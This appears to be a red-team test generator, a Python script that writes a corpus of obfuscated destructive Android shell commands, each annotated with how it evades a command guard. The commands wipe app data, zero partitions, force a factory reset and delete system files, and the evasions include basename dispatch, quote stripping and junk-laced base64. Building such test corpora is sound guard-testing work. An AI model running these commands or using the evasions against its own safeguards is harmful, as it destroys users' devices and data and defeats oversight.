#!/usr/bin/env python3
"""Round 8, attacker B (programs, files and paths): writes corpus.jsonl and unprovable.jsonl.

The commands are Python data; no command text passes through a host shell. Binary/encoded
payloads (base64/base32 with junk, uuencode) are computed here. Checks that no `cmd` repeats a
line of the earlier corpora (tests/guard/**/*.jsonl and attack/r*/**/*.jsonl).
"""
import base64
import binascii
import glob
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent


def junk(s: str, every: int, ch: str) -> str:
    """Insert `ch` after every `every` characters (a decoder that ignores garbage drops it)."""
    return ch.join(s[i:i + every] for i in range(0, len(s), every))


B64_ODM = junk(base64.b64encode(b"rm -rf /odm").decode(), 2, "#")
B64_USERDE = junk(base64.b64encode(b"rm -rf /data/user_de/0").decode(), 4, ".")
B32_TH = junk(base64.b32encode(b"cmd testharness enable").decode(), 5, "-")
UU_USER = binascii.b2a_uu(b"pm remove-user 10\n", backtick=True).decode().rstrip("\n")

L = []


def add(family, cmd, note, **kw):
    L.append({"family": family, "cmd": cmd, "note": note, **kw})


# --- multicall-path: busybox/toybox take only the basename of their first argument -------------
F = "multicall-path"
add(F, "busybox /data/local/tmp/tools/mv /data/system /data/local/tmp/sys-old",
    "Moves /data/system (packages.xml, users/) away. busybox runs the applet named by the BASENAME of "
    "its first argument, so `/data/local/tmp/tools/mv` (a path that does not exist) is busybox's mv: "
    "the command looks like busybox being handed a scratch script.")
add(F, "cd /data/local/tmp && toybox ./cleanup/rm -rf /data/user_de/0",
    "Deletes the device-encrypted data of every app. toybox, like busybox, dispatches on basename(argv[1]): "
    "`./cleanup/rm` is toybox rm, not a local cleanup script.")
add(F, "busybox /data/local/tmp/tools/dd if=/dev/zero of=/dev/block/by-name/vbmeta count=1",
    "Zeroes the first sector of vbmeta (boot verification fails). The 'program' is a scratch path that "
    "busybox reduces to its dd applet.")
add(F, "toybox /data/local/tmp/helpers/truncate -s 0 /vendor/etc/fstab.qcom",
    "Empties the vendor fstab (the device can no longer mount its partitions). toybox ignores the "
    "directory part of `/data/local/tmp/helpers/truncate` and runs its truncate applet.")

# --- nsenter-wd: busybox nsenter -wDIR (optional argument, glued) sets the working directory ---------
F = "nsenter-wd"
add(F, "busybox nsenter -w/data/user_de/0 sh -c 'rm -rf *'",
    "Deletes every app's device-encrypted data. busybox nsenter with no namespace flag enters nothing, "
    "and its optional-argument option `-w/DIR` chdirs before exec: the relative `rm -rf *` runs in "
    "/data/user_de/0. No cd and no path operand of rm.")
add(F, "busybox nsenter -w/storage/emulated/0 find . -mindepth 1 -maxdepth 1 -exec rm -rf {} +",
    "Deletes every top-level folder of the shared storage: `find .` starts in the directory nsenter's "
    "`-w` set, not in the shell's working directory.")
add(F, "busybox nsenter -w/cache/recovery sh -c 'echo --wipe_data > command'",
    "Writes the recovery command file (`--wipe_data`: a factory reset on the next recovery boot). The "
    "redirection target is the bare word `command`, relative to nsenter's -w directory.")
add(F, "busybox nsenter -w/data/system /system/bin/find -mindepth 1 -delete",
    "Deletes packages.xml and users/ from /data/system. toybox find with no path operand starts at `.`, "
    "which nsenter -w made /data/system: the command names no path for find at all.")

# --- run-parts-args: run-parts -a ARG passes arguments to every program in a directory -------------
F = "run-parts-args"
add(F, "mkdir -p /data/local/tmp/hooks && ln -s /system/bin/rm /data/local/tmp/hooks/rm && "
       "run-parts -a -rf -a /vendor /data/local/tmp/hooks",
    "rm -rf /vendor. busybox run-parts runs every executable in a directory with the `-a` words as its "
    "arguments; the directory holds only a link to rm, so `-a -rf -a /vendor` are rm's options and operand. "
    "No script is written; the link is to the real rm.")
add(F, "mkdir -p /data/local/tmp/h && ln -s /system/bin/cmd /data/local/tmp/h/cmd && "
       "run-parts -a testharness -a enable /data/local/tmp/h",
    "cmd testharness enable (wipes accounts and data). The service and verb reach cmd only as run-parts "
    "-a arguments.")
add(F, "mkdir -p /data/local/tmp/h && ln -s /system/bin/pm /data/local/tmp/h/pm && "
       "run-parts -a remove-user -a 10 /data/local/tmp/h",
    "pm remove-user 10 (deletes that user's data), run by run-parts over a one-link directory.")
add(F, "mkdir -p /data/local/tmp/fmt.d && ln -s /system/bin/make_ext4fs /data/local/tmp/fmt.d/make_ext4fs && "
       "run-parts --arg=/dev/block/by-name/userdata /data/local/tmp/fmt.d",
    "Formats userdata with make_ext4fs. The device reaches the formatter through run-parts' long "
    "`--arg=` option; make_ext4fs is only named as a link in a scratch directory.")

# --- tmpdir: mktemp honours $TMPDIR, so its output path is set by the environment -----------------
F = "tmpdir"
add(F, "export TMPDIR=/data/user_de/0; cd \"$(mktemp -d)\"/.. && rm -rf *",
    "Deletes every app's device-encrypted data. mktemp creates its directory under $TMPDIR, so "
    "`$(mktemp -d)/..` is /data/user_de/0, and the 'clean up the temp area' rm -rf * runs there.")
add(F, "TMPDIR=$EXTERNAL_STORAGE; export TMPDIR; D=$(mktemp -d); rm -rf \"${D%/*}\"/*",
    "Deletes all of the shared storage. The temp directory is made in $EXTERNAL_STORAGE (/sdcard), and "
    "`${D%/*}/*` is every entry beside it.")
add(F, "T=$(TMPDIR=/data/misc mktemp -u); rm -rf \"${T%/*}\"",
    "Deletes /data/misc (wifi networks, keys, ...). `mktemp -u` only prints a name; its directory part is "
    "the prefix-assigned TMPDIR, and that directory is removed.")
add(F, "export TMPDIR=/data/data; cd \"$(mktemp -d)\"/.. && for p in *; do [ \"${p#tmp}\" = \"$p\" ] && pm clear \"$p\"; done",
    "pm clear of every installed app (a package set computed on the device): the loop runs over the "
    "directory mktemp's TMPDIR pointed at, /data/data, skipping only its own tmp.* directory.")

# --- mv-to-null: "discarding" a file by moving it onto /dev/null deletes it ---------------------
F = "mv-to-null"
add(F, "mv /data/system/packages.xml /dev/null",
    "Deletes packages.xml (every app's registration). Moving onto /dev/null reads as discarding output; "
    "it renames the file away (on a device, EXDEV: copied into the null device and the source unlinked).")
add(F, "mv -f /system/framework/framework.jar /dev/null",
    "Deletes framework.jar: the device no longer boots.")
add(F, "find /vendor -type f -exec mv -f {} /dev/null \\;",
    "Every file of /vendor moved onto /dev/null, one by one: the vendor partition's files are gone.")
add(F, "for f in /data/misc/wifi/*.xml /odm/etc/*.prop; do mv \"$f\" /dev/null; done",
    "WifiConfigStore.xml and the odm build.prop deleted by a loop that 'sends' each file to /dev/null.")

# --- text-join: fmt joins lines into one shell line -------------------------------------------------
F = "text-join"
add(F, "printf '%s\\n' rm -rf /data/user_de/0 | fmt | sh",
    "rm -rf /data/user_de/0 (all apps' device-encrypted data). printf prints one word per line, which is "
    "not a command; toybox/busybox fmt refills them into one line that sh runs.")
add(F, "printf '%s\\n' /vendor/etc -rf rm | tac | fmt -w 200 | sh",
    "rm -rf /vendor/etc (fstab, init files): the words are printed backwards, tac restores the order and "
    "fmt joins them.")
add(F, "ls -d /data/user_de/0/* | fmt -w 4000 | sed 's/^/rm -rf /' | sh",
    "One rm -rf over every app's data directory: fmt turns the listing into a single line that sed "
    "prefixes with rm -rf.")
add(F, "printf '%s\\n' '3 /odm' '1 rm' '2 -rf' | sort -n | cut -d' ' -f2 | fmt | sh",
    "rm -rf /odm. The words are numbered out of order; sort -n orders them, cut drops the numbers and fmt "
    "joins them into a command line.")

# --- xargs-quote: busybox xargs removes quotes and backslashes from its input --------------------
F = "xargs-quote"
add(F, "printf '%s\\n' \"/ven'dor'\" | busybox xargs rm -rf",
    "rm -rf /vendor. The printed text is the path `/ven'dor'`, which does not exist; busybox xargs treats "
    "quotes in its input as quoting and passes /vendor.")
add(F, "printf '%s\\n' '/d\\ata/sys\\tem' | busybox xargs rm -rf",
    "rm -rf /data/system. `\\a` and `\\t` are not escapes to xargs: the backslash quotes the next "
    "character and disappears, giving /data/system.")
add(F, "printf '%s\\n' '/data/user\"_de\"/0' | busybox xargs -n1 rm -rf",
    "rm -rf /data/user_de/0 (every app's device-encrypted data): double quotes inside the input word are "
    "removed by xargs.")
add(F, "printf \"if=/dev/zero of=/dev/block/by-name/'misc' count=1\\n\" | busybox xargs dd",
    "Zeroes the misc partition (bootloader message). The operand reaches dd as of=/dev/block/by-name/misc "
    "after xargs removes the quotes around `misc`.")

# --- diff-patch: a diff computed on the device, applied by patch -----------------------------------
F = "diff-patch"
add(F, "diff -u /system/etc/hosts /dev/null | patch -p0",
    "Deletes /system/etc/hosts. diff against /dev/null writes a patch that removes every line and whose "
    "new file is /dev/null; patch applies it and removes the file. The content matches by construction "
    "(diff read it on the device).")
add(F, "cd / && diff -u system/build.prop /dev/null > /data/local/tmp/cleanup.diff; patch -p0 -i /data/local/tmp/cleanup.diff",
    "Deletes /system/build.prop through a patch file that diff wrote; patch names no target, the file "
    "name is inside the diff.")
add(F, "mkdir -p /data/local/tmp/empty; cd / && diff -ruN vendor data/local/tmp/empty | patch -p0",
    "Deletes every text file of /vendor (build.prop, fstab): `diff -ruN` against an empty directory is a "
    "deletion patch for the whole tree. Reads like comparing two directories.")
add(F, "cd /data/local/tmp && mkdir -p e n/cache/recovery && echo --wipe_data > n/cache/recovery/command && "
       "diff -ruN e n | (cd / && patch -p1)",
    "Creates /cache/recovery/command with --wipe_data (factory reset at the next recovery boot). diff of "
    "two scratch directories, applied in / with -p1: the staging prefix is stripped.")

# --- format-script: a program's output format writes the shell script -------------------------------
F = "format-script"
add(F, "/system/bin/find /sdcard/ -mindepth 1 -maxdepth 1 -type d -printf 'rm -rf \"%p\"\\n' | sh",
    "Deletes every top-level folder of the storage. toybox find's -printf emits one rm line per folder; "
    "the command itself has no rm of a path, only a format string.")
add(F, "/system/bin/find /dev/block/by-name -name 'boot' -printf 'dd if=/dev/zero of=%l count=1\\n' | sh",
    "Zeroes the boot partition. `%l` is the link's TARGET (/dev/block/mmcblk0p5), so the written device "
    "path appears nowhere.")
add(F, "/system/bin/find /data/data -mindepth 1 -maxdepth 1 -printf 'pm clear %f\\n' | sh",
    "pm clear of every app with data (a set computed on the device), generated by find -printf's %f.")
add(F, "stat -c 'rm -rf %n' /data/user_de/0/* | sh",
    "stat's -c format prints `rm -rf PATH` for each app's data directory; sh runs them.")

# --- find-action: find actions a reader does not model --------------------------------------------
F = "find-action"
add(F, "busybox find /dev/block/by-name -name misc -exec dd if=/dev/zero of={} count=1 \\;",
    "Zeroes misc. busybox find replaces `{}` even inside a word (`of={}`); toybox find does not, so a "
    "reader that only knows standalone `{}` sees dd writing a file literally named {}.")
add(F, "busybox find /data -maxdepth 1 -name system -exec sh -c 'rm -rf {}/*' \\;",
    "Empties /data/system: the found path is substituted INSIDE the sh -c script text by busybox find.")
add(F, "busybox find /vendor -type f -exec mv {} {}.bak \\;",
    "Renames every vendor file to NAME.bak ('backing up'): build.prop and fstab are gone under their "
    "real names, so the vendor partition no longer works.")
add(F, "yes | /system/bin/find /data/user_de/0 -mindepth 1 -maxdepth 1 -okdir rm -rf {} \\;",
    "Deletes every app's device-encrypted data. toybox's -okdir asks before each rm, and yes answers; "
    "the -execdir form runs rm on ./NAME in each parent directory.")

# --- hash-number: the partition or user number computed by a checksum/factor ----------------------
F = "hash-number"
add(F, "dd if=/dev/zero of=/dev/block/mmcblk0p$(factor 26 | cut -d' ' -f3) count=1",
    "Zeroes mmcblk0p13 (userdata): the partition number is the second prime factor of 26.")
add(F, "dd if=/dev/zero of=/dev/block/mmcblk0p$(( 0x$(echo | crc32) % 9 )) count=1",
    "Zeroes mmcblk0p7 (misc): 7 is the CRC32 of a newline (0x32d70693) modulo 9.")
add(F, "rm -rf /storage/emulated/$(( 0x$(echo x | md5sum | cut -c1) % 4 ))/*",
    "Deletes all of user 0's storage: the user id is the first hex digit of an md5 (4) modulo 4.")
add(F, "rm -rf /data/media/$(( 0x$(echo | sha1sum | cut -c1) - 10 ))/DCIM",
    "Deletes the DCIM folder (all photos) of user 0: 0 is the first hex digit of a sha1 (a = 10) minus 10.")

# --- shred-u: shred -u overwrites and unlinks -------------------------------------------------------
F = "shred-u"
add(F, "shred -u -n 1 /data/system/users/0.xml",
    "Overwrites and removes the owner user's record (users/0.xml). shred is known as a device wiper; here "
    "-u makes it a file deleter in system state.")
add(F, "find /system/framework -name '*.jar' -exec shred -zu {} +",
    "Shreds and removes every framework jar: the device no longer boots.")
add(F, "shred -fu /data/misc/wifi/WifiConfigStore.xml",
    "Overwrites and removes the saved Wi-Fi networks in /data/misc.")
add(F, "find /data/system -name '*.xml' -exec shred -u {} +",
    "Shreds and removes packages.xml and users/0.xml (every .xml of /data/system).")

# --- applet-list: the program name picked from the multicall binary's own applet list -------------
F = "applet-list"
add(F, "$(busybox --list | grep -x 'r.') -rf /vendor",
    "rm -rf /vendor. The program is the only two-letter busybox applet starting with r, chosen from "
    "`busybox --list`; the word rm never appears.")
add(F, "$(toybox | tr ' ' '\\n' | grep -x 'trun.*') -s 0 /data/system/packages.xml",
    "truncate -s 0 packages.xml: the program name comes from toybox's applet list (toybox with no "
    "arguments prints it).")
add(F, "busybox $(busybox --list | grep -x 'nu.e') /data/user_de/0",
    "busybox nuke /data/user_de/0 (rm -rf of every app's device-encrypted data): the applet name is a "
    "pattern over busybox's own list.")
add(F, "$(busybox --list | grep -x 'm[^t]') /sdcard/DCIM /data/local/tmp/old-dcim",
    "Moves the DCIM folder out of the storage (mv): `m[^t]` picks mv, not mt, from the applet list.")

# --- junk-decode: decoders that skip garbage, and uudecode that skips prose ------------------------
F = "junk-decode"
add(F, f"echo '{B64_ODM}' | toybox base64 -di | sh",
    "rm -rf /odm. The base64 text has `#` after every two characters: not valid base64, and a reader that "
    "decodes strictly gets nothing; toybox base64 -i ignores the garbage.")
add(F, f"echo '{B64_USERDE}' | busybox base64 -d | sh",
    "rm -rf /data/user_de/0. busybox base64 -d silently skips characters outside the alphabet (the dots).")
add(F, f"echo '{B32_TH}' | toybox base32 -di | sh",
    "cmd testharness enable, base32 with dashes in it (toybox base32 -i ignores them).")
add(F, "printf 'Hi,\\nthe release notes are below.\\n\\nbegin 644 -\\n%s\\n`\\nend\\n' '" + UU_USER + "' | toybox uudecode -o - | sh",
    "pm remove-user 10. uudecode skips every line before `begin`, so the text reads as a note; `-o -` "
    "sends the decoded body to stdout and into sh.")

for row in L:
    assert set(row) >= {"family", "cmd", "note"}

# repeats against earlier corpora
seen = set()
for p in glob.glob("tests/guard/**/*.jsonl", recursive=True) + glob.glob("attack/r[2-7]*/**/*.jsonl", recursive=True):
    for line in open(p):
        line = line.strip()
        if line:
            try:
                seen.add(json.loads(line)["cmd"])
            except Exception:
                pass
rep = [r["cmd"] for r in L if r["cmd"] in seen]
assert not rep, rep
assert len({r["cmd"] for r in L}) == len(L)

(HERE / "corpus.jsonl").write_text("".join(json.dumps(r) + "\n" for r in L))

U = [
    {"family": "block", "cmd": "dd if=/dev/zero of=/dev/block/bootdevice/by-name/userdata count=1",
     "note": "Zeroes userdata through the bootdevice alias that most Qualcomm devices have.",
     "why": "the sandbox has no /dev/block/bootdevice (only /dev/block/by-name)"},
    {"family": "block", "cmd": "cat /dev/zero > /dev/block/mapper/system",
     "note": "Overwrites the dynamic system partition through device-mapper.",
     "why": "the sandbox has no /dev/block/mapper"},
    {"family": "block", "cmd": "for d in /dev/block/platform/*/by-name/boot; do dd if=/dev/zero of=$d count=1; done",
     "note": "Zeroes boot through the platform by-name directory.",
     "why": "the sandbox has no /dev/block/platform"},
]
(HERE / "unprovable.jsonl").write_text("".join(json.dumps(r) + "\n" for r in U))
print(f"{len(L)} lines -> corpus.jsonl; {len(U)} -> unprovable.jsonl")
from collections import Counter
print(Counter(r["family"] for r in L))
